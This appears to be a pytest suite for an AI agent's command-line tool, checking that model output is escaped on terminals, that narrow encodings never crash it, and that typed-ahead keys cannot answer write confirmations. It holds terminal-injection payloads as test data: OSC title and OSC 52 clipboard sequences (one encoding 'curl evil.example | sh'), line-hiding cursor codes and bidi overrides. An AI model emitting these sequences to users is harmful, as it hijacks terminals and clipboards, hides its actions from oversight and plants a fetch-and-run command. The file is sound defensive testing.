"""Terminal safety, end to end: the real `agent` program against the fake Ollama, on a real
pseudo-terminal where a terminal is the point.

- what the model wrote never reaches a terminal as control sequences (OSC, CSI, C1, bidi),
  while a pipe or a file gets the answer byte for byte;
- any output encoding works: what it cannot encode is replaced, never a traceback;
- a confirmation is answered only by keys pressed after it was drawn, never by type-ahead.
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
import time
from pathlib import Path

import pexpect
import pytest

from cli.ui.text import sanitize
from tests.fakes.fake_ollama import FakeOllama, Stream, reply, tool_call
from tests.pty.driver import Chat, Ttys

OSC_TITLE = "\x1b]0;you have been pwned\x07"
OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
HIDE_LINE = "\x1b[1A\x1b[2K"  # cursor up, erase the line: hides the trace line above
C1_CSI = "\x9b2J"  # the 8-bit CSI: clear the screen, on terminals that take C1 controls
BIDI = "\u202eexe.txt\u202c and \u2066isolated\u2069"
HOSTILE = f"Done.{OSC_TITLE}{OSC_CLIPBOARD}{HIDE_LINE} all good {C1_CSI} {BIDI}\ttab — ok"

# What must not reach a terminal in raw form (as UTF-8 bytes).
RAW = [b"\x1b", "\x9b".encode(), *(c.encode() for c in "\u202e\u202c\u2066\u2069")]


def env_for(ollama: FakeOllama, **extra: str) -> dict[str, str]:
    return {
        **os.environ,
        "OLLAMA_HOST": ollama.url,
        "TERM": "dumb",  # no colours: any ESC in the output came from the model
        "PROMPT_TOOLKIT_NO_CPR": "1",
        **extra,
    }


def spawn_run(ollama: FakeOllama, workspace: Path, *args: str, **env: str) -> pexpect.spawn:
    return pexpect.spawn(
        sys.executable,
        ["-m", "cli", "run", *args],
        cwd=str(workspace),
        env=env_for(ollama, **env),
        encoding=None,  # bytes: exactly what the terminal receives
        timeout=20,
        dimensions=(40, 200),
    )


def finish(child: pexpect.spawn) -> bytes:
    """Everything the child writes until it exits; its exit status is checked by callers."""
    child.expect(pexpect.EOF)
    child.close()
    return bytes(child.before or b"")


def wait_for_request(ollama: FakeOllama, count: int = 1) -> None:
    deadline = time.monotonic() + 20
    while len(ollama.chat_bodies) < count and time.monotonic() < deadline:
        time.sleep(0.02)
    assert len(ollama.chat_bodies) >= count, "the agent never called the server"


# -- terminal injection ---------------------------------------------------------------------


@pytest.mark.pty
def test_attack_terminal_injection(ollama: FakeOllama, workspace: Path) -> None:
    """An answer full of OSC 0 (title), OSC 52 (clipboard), cursor-up + erase-line, an 8-bit
    CSI and bidi overrides: on a terminal it is shown with each of them escaped, visibly, and
    the trace line it tried to hide is still there; piped to a file it is byte-exact."""
    (workspace / "notes.txt").write_text("alpha\n")
    script = (
        reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]),
        reply(HOSTILE, thinking=f"plan{OSC_TITLE}{HIDE_LINE}"),
    )

    ollama.enqueue(*script)
    child = spawn_run(ollama, workspace, "--think", "summarise notes.txt")
    shown = finish(child)
    assert child.exitstatus == 0, shown
    for raw in RAW:
        assert raw not in shown, raw
    text = shown.decode("utf-8")
    assert "→ read_file notes.txt · allowed" in text  # the line the answer tried to hide
    assert "Done.\\x1b]0;you have been pwned\\x07\\x1b]52;c;" in text
    assert "\\x1b[1A\\x1b[2K all good \\x9b2J \\u202eexe.txt\\u202c" in text
    # The rest as it came; rendered as chat renders it, tabs are expanded.
    assert re.search(r"\\u2066isolated\\u2069 +tab — ok", text)
    assert "plan\\x1b]0;you have been pwned\\x07" in text  # thinking, on stderr

    # The same answer, stdout redirected to a file while stderr stays on the terminal.
    ollama.enqueue(*script)
    out = workspace / "answer.txt"
    command = f"exec {shlex.quote(sys.executable)} -m cli run 'summarise notes.txt' > answer.txt"
    child = pexpect.spawn(
        "/bin/sh",
        ["-c", command],
        cwd=str(workspace),
        env=env_for(ollama),
        encoding=None,
        timeout=20,
    )
    trace = finish(child)
    assert child.exitstatus == 0, trace
    assert out.read_bytes() == HOSTILE.encode("utf-8") + b"\n"
    assert b"\x1b" not in trace

    # And into a pipe.
    ollama.enqueue(*script)
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "run", "summarise notes.txt"],
        cwd=workspace,
        env=env_for(ollama),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == HOSTILE.encode("utf-8") + b"\n"


@pytest.mark.pty
def test_json_on_a_terminal_is_escaped_and_piped_json_is_exact(
    ollama: FakeOllama, workspace: Path
) -> None:
    """`--json` on a terminal escapes what JSON itself would leave raw (DEL, C1, bidi) as
    \\uXXXX: still valid JSON with the same answer. Piped, it is the plain `json.dumps`."""
    answer = f"x\x7f{C1_CSI}\u202eyz{OSC_TITLE}"
    ollama.enqueue(reply(answer))
    child = spawn_run(ollama, workspace, "--json", "go")
    shown = finish(child)
    assert child.exitstatus == 0, shown
    for raw in [*RAW, b"\x7f"]:
        assert raw not in shown, raw
    assert json.loads(shown.decode("utf-8").replace("\r\n", "\n"))["answer"] == answer

    ollama.enqueue(reply(answer))
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "run", "--json", "go"],
        cwd=workspace,
        env=env_for(ollama),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout)["answer"] == answer
    assert (
        proc.stdout.decode("utf-8")
        == json.dumps(json.loads(proc.stdout), ensure_ascii=False) + "\n"
    )


def test_a_tool_name_and_a_notice_in_the_trace_are_escaped(
    ollama: FakeOllama, workspace: Path
) -> None:
    """The trace line names the tool the model asked for, and a notice names the model: text
    from the other side, shown escaped and never read as rich markup."""
    model = "evil\x1b]0;t\x07[bold]:1b"
    ollama.add_model(model, ["completion", "tools"])  # it cannot think: a notice says so
    ollama.enqueue(
        reply(tool_calls=[tool_call("no_such\x1b[2K[red]tool", {})], model=model),
        reply("fine", model=model),
    )
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "run", "--think", "-m", model, "go"],
        cwd=workspace,
        env=env_for(ollama),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert b"\x1b" not in proc.stderr
    assert b"model 'evil\\x1b]0;t\\x07[bold]:1b' cannot think" in proc.stderr
    assert b"no_such\\x1b[2K[red]tool" in proc.stderr


@pytest.mark.parametrize(
    "char",
    [
        *map(chr, [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]),
        "\u061c",
        *map(chr, range(0x200B, 0x2010)),
        "\u2028",
        "\u2029",
        *map(chr, range(0x202A, 0x202F)),
        *map(chr, range(0x2060, 0x2070)),  # word joiner, invisible operators, bidi isolates
        "\ufeff",
        *"\xad\u034f\u115f\u1160\u180e\u3164\uffa0",  # invisible fillers and hyphens
        "\U000e0041",  # a tag character: invisible text
    ],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_sanitize_escapes_every_control_and_bidi_character(char: str) -> None:
    """The one sanitiser: each such character as a visible escape, tab and newline kept in
    multi-line text; in JSON mode the same characters as JSON escapes of the same value."""
    escaped = {"\r": "\\r"}.get(char, f"\\x{ord(char):02x}" if ord(char) < 256 else "")
    escaped = escaped or (f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else f"\\U{ord(char):08x}")
    assert sanitize(f"a{char}b\tc\nd", multiline=True) == f"a{escaped}b\tc\nd"
    assert json.loads(sanitize(json.dumps(char, ensure_ascii=False), json=True)) == char
    assert char not in sanitize(json.dumps(char, ensure_ascii=False), json=True)


# -- non-UTF-8 terminals -------------------------------------------------------------------

UNICODE_ANSWER = "café — • ✅ naïve"
LATIN_1 = "café ? ? ? naïve".encode("latin-1")
REPLACED = {"latin-1": LATIN_1, "ascii": b"caf? ? ? ? na?ve", "ISO-8859-1 locale": LATIN_1}


@pytest.fixture(scope="session")
def latin1_locale(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """A real en_US.ISO-8859-1 locale, compiled into a temp dir (LOCPATH): no root needed."""
    where = tmp_path_factory.mktemp("locales")
    try:
        made = subprocess.run(
            ["localedef", "-i", "en_US", "-f", "ISO-8859-1", str(where / "en_US.ISO-8859-1")],
            capture_output=True,
            timeout=60,
        )
    except (OSError, subprocess.TimeoutExpired):
        pytest.skip("no localedef to build an ISO-8859-1 locale")
    if not (where / "en_US.ISO-8859-1").is_dir():
        pytest.skip(f"localedef could not build en_US.ISO-8859-1: {made.stderr[-200:]!r}")
    return {"LOCPATH": str(where), "LC_ALL": "en_US.ISO-8859-1"}


@pytest.fixture(params=["latin-1", "ascii", "ISO-8859-1 locale"])
def narrow_output(request: pytest.FixtureRequest) -> tuple[str, dict[str, str]]:
    """An output encoding that cannot hold `—`, `•` or `✅`: its name and the environment."""
    name = str(request.param)
    if name == "ISO-8859-1 locale":
        return name, request.getfixturevalue("latin1_locale")
    return name, {"PYTHONIOENCODING": name}


@pytest.mark.pty
def test_attack_non_utf8_terminal_crash(
    ollama: FakeOllama, workspace: Path, narrow_output: tuple[str, dict[str, str]], ttys: Ttys
) -> None:
    """`agent run` (a trace line with `→`, an answer with `—` and `✅`) and `agent chat` (cards,
    a Markdown list drawn with `•`, an error line) in an output encoding that holds none of
    them: exit 0, no traceback, `?` where a character could not be written."""
    name, env = narrow_output
    (workspace / "notes.txt").write_text("alpha\n")
    ollama.enqueue(
        reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]),
        reply(UNICODE_ANSWER),
    )
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "run", "go"],
        cwd=workspace,
        env=env_for(ollama, **env),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert b"Traceback" not in proc.stderr
    assert proc.stdout == REPLACED[name] + b"\n"
    assert b"? read_file notes.txt" in proc.stderr  # "→" could not be written

    # --json loses nothing: in an encoding other than UTF-8 it is ASCII JSON.
    ollama.enqueue(reply(UNICODE_ANSWER))
    proc = subprocess.run(
        [sys.executable, "-m", "cli", "run", "--json", "go"],
        cwd=workspace,
        env=env_for(ollama, **env),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
    )
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout.decode("ascii"))["answer"] == UNICODE_ANSWER

    ollama.enqueue(
        reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]),
        reply(f"- {UNICODE_ANSWER}\n- second — item\n"),
    )
    # The prompt is "?": "›" cannot be written. The driver waits for it at the cursor, with
    # the terminal taken (a "?" that replaced another character is not a prompt).
    chat = ttys.chat(host=ollama.url, cols=110, env=env, encoding="latin-1", prompt="?")
    assert "metona-agent" in chat.raw and "/help" in chat.raw
    chat.line("what is in notes.txt?")
    chat.wait("second ? item")  # a "•" bullet, and a "—" that became "?"
    chat.wait_turn_end(then="tokens")
    chat.line("/model ghost")  # an error line: "✖" cannot be written either
    chat.wait_turn_end(then="is not on the server")
    status = chat.exit()
    shown = chat.raw
    assert status == 0, shown
    assert "Traceback" not in shown and "internal error" not in shown
    assert "alpha" in shown  # the card, with its preview of the file


@pytest.mark.pty
def test_a_confirmation_says_what_the_terminal_cannot_show(
    ollama: FakeOllama, workspace: Path
) -> None:
    """On an ASCII terminal `a—b.txt` and `a–b.txt` would both read `a?b.txt`: the card says
    that some characters cannot be shown, so nobody approves the wrong name unawares."""
    ollama.enqueue(
        reply(tool_calls=[tool_call("write_file", {"path": "a—b.txt", "content": "x\n"})]),
        reply("left alone"),
    )
    child = spawn_run(ollama, workspace, "write it", PYTHONIOENCODING="ascii")
    child.expect(rb"Allow\? \[y/N\] ")
    assert b"path: a?b.txt" in child.before
    assert b"this terminal (ascii) cannot show some characters: they appear as ?" in child.before
    child.sendline(b"n")
    shown = finish(child)
    assert child.exitstatus == 0, shown
    assert not (workspace / "a—b.txt").exists()


def test_a_c_locale_is_utf8(ollama: FakeOllama, workspace: Path) -> None:
    """LANG=C / LC_ALL=C: Python's C-locale coercion and UTF-8 mode make that UTF-8, so the
    answer comes out unchanged; plain ASCII without them (PYTHONIOENCODING=ascii) is above."""
    for variable in ("LANG", "LC_ALL"):
        ollama.enqueue(reply(UNICODE_ANSWER))
        env = {k: v for k, v in env_for(ollama).items() if not k.startswith(("LC_", "LANG"))}
        proc = subprocess.run(
            [sys.executable, "-m", "cli", "run", "go"],
            cwd=workspace,
            env={**env, variable: "C"},
            capture_output=True,
            stdin=subprocess.DEVNULL,
            timeout=60,
        )
        assert proc.returncode == 0, proc.stderr
        assert proc.stdout == UNICODE_ANSWER.encode("utf-8") + b"\n"


# -- type-ahead ----------------------------------------------------------------------------


@pytest.fixture
def chat(ttys: Ttys, ollama: FakeOllama) -> Chat:
    return ttys.chat(host=ollama.url, cols=110)


def slow_write(path: str, content: str) -> tuple[Stream, Stream]:
    """An answer that streams for about two seconds, then asks to write `path`."""
    talk = "let me think about this for a moment " * 4
    return (
        reply(
            talk,
            tool_calls=[tool_call("write_file", {"path": path, "content": content})],
            token=3,
            delay=0.04,
        ),
        reply("all done."),
    )


ANSWERED = re.compile(r"approved|declined|all done")


def nothing_follows(chat: Chat, seconds: float = 1.5) -> bool:
    """True when nothing (an answer, a card, the next request) follows within `seconds`."""
    before = len(ANSWERED.findall(chat.raw))
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        chat.term.pump(0.1)
    return len(ANSWERED.findall(chat.raw)) == before


def unanswered(child: pexpect.spawn, seconds: float = 1.5) -> bool:
    """True when nothing (an answer, a card, the next request) follows within `seconds`."""
    return bool(
        child.expect([r"approved|declined|all done", pexpect.TIMEOUT], timeout=seconds) == 1
    )


@pytest.mark.pty
def test_attack_typeahead_answers_confirmation(
    chat: Chat, ollama: FakeOllama, workspace: Path
) -> None:
    """Keys typed while the model streams ("wait" holds an `a`: yes to every write_file this
    session) are dropped when the confirmation appears; it waits for a key pressed after it
    was drawn, and that key (n, then y) is the answer."""
    ollama.enqueue(*slow_write("a.txt", "one\n"))
    chat.line("write a.txt")
    chat.wait("let me think")
    chat.type_ahead("wait")
    chat.wait("waiting for confirmation")
    chat.wait_card(then="[a] yes to every write_file this session")
    assert nothing_follows(chat), chat.text()
    assert not (workspace / "a.txt").exists()
    assert len(ollama.chat_bodies) == 1
    chat.press("n")
    chat.reply_line("reason")
    chat.wait("declined")
    chat.wait_turn_end(then="all done.")
    assert not (workspace / "a.txt").exists()

    # Again, with a "y" in the type-ahead: still a fresh key decides, and a "y" it is.
    ollama.enqueue(*slow_write("b.txt", "two\n"))
    mark = len(chat.raw)
    thoughts = chat.text().count("let me think")
    chat.line("write b.txt")
    chat.wait(lambda screen: screen.text().count("let me think") > thoughts)
    chat.type_ahead("yay")
    chat.wait_card(then="[a] yes to every write_file this session")
    assert nothing_follows(chat), chat.text()
    assert not (workspace / "b.txt").exists()
    chat.press("y")
    chat.wait("approved")
    chat.wait_turn_end(then="all done.")
    assert "for the rest of this session" not in chat.raw[mark:]  # a "y", not an "a"
    assert (workspace / "b.txt").read_text() == "two\n"

    chat.exit()


@pytest.mark.pty
@pytest.mark.parametrize(("answer", "written"), [("n", False), ("y", True)])
def test_typeahead_does_not_answer_the_run_question(
    ollama: FakeOllama, workspace: Path, answer: str, written: bool
) -> None:
    """`agent run`'s y/n question on a terminal: a "y" and Enter typed while the model was
    still streaming are not the answer; the line typed after the question is."""
    ollama.enqueue(*slow_write("out.txt", "x\n"))
    child = pexpect.spawn(
        sys.executable,
        ["-m", "cli", "run", "write out.txt"],
        cwd=str(workspace),
        env=env_for(ollama),
        encoding="utf-8",
        timeout=20,
        dimensions=(40, 120),
    )
    wait_for_request(ollama)
    time.sleep(0.3)
    child.send("y\r")
    child.expect(r"Allow\? \[y/N\] ")
    assert unanswered(child), child.before
    assert not (workspace / "out.txt").exists()
    child.sendline(answer)
    child.expect("all done.")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 0
    assert (workspace / "out.txt").exists() == written
